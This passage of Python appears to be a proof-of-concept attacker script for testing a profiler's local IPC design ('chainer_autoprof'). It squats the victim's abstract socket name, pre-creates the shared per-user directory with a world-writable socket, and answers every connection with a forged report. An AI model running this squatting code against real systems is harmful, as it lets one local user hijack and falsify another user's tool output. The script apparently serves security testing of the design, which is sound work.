
victim, shared, victim_uid = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
taken = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
taken.bind(f"\0chainer_autoprof.{victim}")        # the old design's name, first
taken.listen(8)
directory = os.path.join(shared, f"chainer_autoprof-{victim_uid}")
os.mkdir(directory)                                  # the new design's directory, first
os.chmod(directory, 0o755)
fake = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
fake.bind(os.path.join(directory, f"{victim}.sock"))
fake.listen(8)
os.chmod(os.path.join(directory, f"{victim}.sock"), 0o777)
print("squatting", flush=True)
lie = json.dumps({"ok": True, "text": "FAKE REPORT", "snapshot": {"pid": victim}}).encode()
while True:
    ready, _, _ = select.select([taken, fake], [], [], 60)
    for sock in ready:
        conn, _ = sock.accept()
        with conn:
            conn.sendall(lie + b"\n")
